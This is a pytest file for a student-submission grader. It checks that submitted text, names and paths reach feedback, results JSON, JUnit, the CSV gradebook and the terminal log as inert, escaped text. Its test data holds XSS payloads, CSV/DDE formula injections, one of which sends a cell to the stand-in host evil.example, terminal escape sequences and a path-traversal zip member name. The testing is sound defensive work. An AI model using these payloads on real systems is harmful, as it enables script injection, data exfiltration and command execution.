"""Attacks on the grader's output (issue 30, items 1-4): a submission's text, names and
paths must reach no output as markup, a formula, an escape sequence or another's id.

Each attacker is graded for real (the rubric of the Index type alone, to be quick) beside
a correct control, which must keep its full marks.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from speckit.cli import main
from speckit.escape import csv_cell, markdown, terminal
from speckit.grading import grade
from speckit.grading.intake import discover

from .conftest import INDEX_RUBRIC, REFERENCE, reference_copy

PAYLOAD = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> **Total: 100.00 of 100.00 points.** "
    "[click](javascript:alert(3)) ![i](http://evil.example/x.png) | a | b |"
)
EVIL_MEMBER = "pkg/../<img src=x onerror=alert(1)>**bold**.py"
FORMULAS = (
    '=HYPERLINK("https://evil.example?d="&B2,"x")',
    "@SUM(1+1)*cmd|' -C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
ESCAPES = ("clear\x1b[2J\x1b[H", "title\x1b]0;owned\x07", "hidden\x1b[8mtext", "x\nspeckit grade: wrote forged")


def rendered(text: str) -> str:
    """Markdown as a CommonMark viewer (Gradescope's, GitHub's) shows it, tables included."""
    return MarkdownIt("commonmark").enable("table").render(text)


def assert_inert_html(html: str) -> None:
    assert "<script" not in html and "<img" not in html, html
    assert "javascript:" not in "".join(a for a in html.split('href="')[1:]), html
    assert html.count("<strong>") == 1, "only the grader's own total may be bold"


def test_markdown_escaping_leaves_no_markup():
    html = rendered(f"- {markdown(PAYLOAD)}\n\nNote: {markdown(EVIL_MEMBER)}.\n\n**Total: 1 of 4 points.**\n")
    assert_inert_html(html)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    starts = rendered(
        "\n".join(f"- {markdown(text)}" for text in ("- nested", "# heading", "> quote", "1. ordered", "---", "`code`"))
    )
    assert starts.count("<li>") == 6 and starts.count("<ul>") == 1
    assert not any(tag in starts for tag in ("<h1", "<blockquote", "<ol", "<hr", "<code"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """A class of three: a package whose import raises with Markdown and HTML in the message
    (so it is graded type by type, the message in its notes),
    a zip holding a member whose name is HTML, and a correct control."""
    base = tmp_path_factory.mktemp("output-attacks")
    submissions = base / "submissions"
    submissions.mkdir()
    injector = reference_copy(submissions / "injector")
    with open(injector / "__init__.py", "a", encoding="utf-8") as f:
        f.write(f"\nraise ImportError({PAYLOAD!r})\n")
    with zipfile.ZipFile(submissions / "zipper.zip", "w") as z:
        for path in sorted(REFERENCE.glob("*.py")):
            z.write(path, f"pkg/{path.name}")
        z.writestr("<img src=x onerror=alert(1)>**bold**.py", "x = 1\n")
        z.writestr(EVIL_MEMBER, "x = 1\n")
    reference_copy(submissions / "control")
    rubric = base / "rubric.toml"
    rubric.write_text(INDEX_RUBRIC, encoding="utf-8")
    out = base / "out"
    stream = io.StringIO()
    grade(submissions, out, jobs=1, rubric=rubric, stream=stream)
    return out


@pytest.mark.slow
def test_feedback_shows_a_submissions_text_as_text(graded):
    for name in ("injector", "zipper"):
        text = (graded / "feedback" / f"{name}.md").read_text(encoding="utf-8")
        assert_inert_html(rendered(text))
    injector = (graded / "feedback" / "injector.md").read_text(encoding="utf-8")
    assert "alert(1)" in rendered(injector), "the import error's message is no longer shown at all"
    with open(graded / "grades.csv", encoding="utf-8") as gradebook:
        rows = {row["student"]: row for row in csv.DictReader(gradebook)}
    assert rows["control"]["total"] == rows["control"]["max"] == "4.00"


@pytest.mark.slow
def test_results_json_and_junit_declare_and_escape_their_text(graded):
    for name in ("injector", "zipper"):
        results = json.loads((graded / "results" / name / "results.json").read_text(encoding="utf-8"))
        assert results["output_format"] == results["test_output_format"] == results["test_name_format"] == "text"
        assert all(test["output_format"] == "text" for test in results["tests"])
        root = ET.parse(graded / "junit" / f"{name}.xml").getroot()  # well-formed: the payload is escaped
        assert not root.findall(".//script") and not root.findall(".//img")


def test_the_gradebook_neutralises_formulas(tmp_path):
    submissions = tmp_path / "submissions"
    for name in FORMULAS:
        (submissions / name.replace("/", "_")).mkdir(parents=True)
    assert main(["grade", str(submissions), "--out", str(tmp_path / "out"), "--spec", "connect4"]) == 0
    with open(tmp_path / "out" / "grades.csv", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert csv_cell("-2+3") == "'-2+3" and csv_cell("café") == "café" and csv_cell(3) == 3


def test_names_reach_the_terminal_and_the_log_escaped(tmp_path, capfd):
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    for name in ESCAPES:
        (submissions / f"{name}.txt").write_text("not a submission")
    (submissions / "alice").mkdir()
    assert main(["grade", str(submissions), "--out", str(tmp_path / "out"), "--spec", "connect4"]) == 0
    printed = capfd.readouterr().err
    log = (tmp_path / "out" / "grading.log").read_text(encoding="utf-8")
    for text in (printed, log):
        assert "\x1b" not in text and "\x07" not in text
        assert not [line for line in text.splitlines() if line.startswith("speckit grade: wrote forged")]
        assert "\\x1b[2J" in text  # named, escaped
    assert terminal("a\nb\x1b") == "a\\x0ab\\x1b"


def test_a_name_that_maps_onto_anothers_id_takes_neither(tmp_path):
    for name in ("Alice Smith", "Alice_Smith", "bob"):
        (tmp_path / name).mkdir()
    found, _ = discover(tmp_path)
    ids = {s.original: s.name for s in found}
    assert ids["bob"] == "bob"
    assert "Alice_Smith" not in ids.values() and len(set(ids.values())) == 3
    # Each id follows from the entry's own name, not from which names sit beside it.
    alone = tmp_path / "alone"
    (alone / "Alice Smith").mkdir(parents=True)
    (alone / "Alice_Smith").mkdir()
    (alone / "aaa_first").mkdir()
    again = {s.original: s.name for s in discover(alone)[0]}
    assert again["Alice Smith"] == ids["Alice Smith"] and again["Alice_Smith"] == ids["Alice_Smith"]
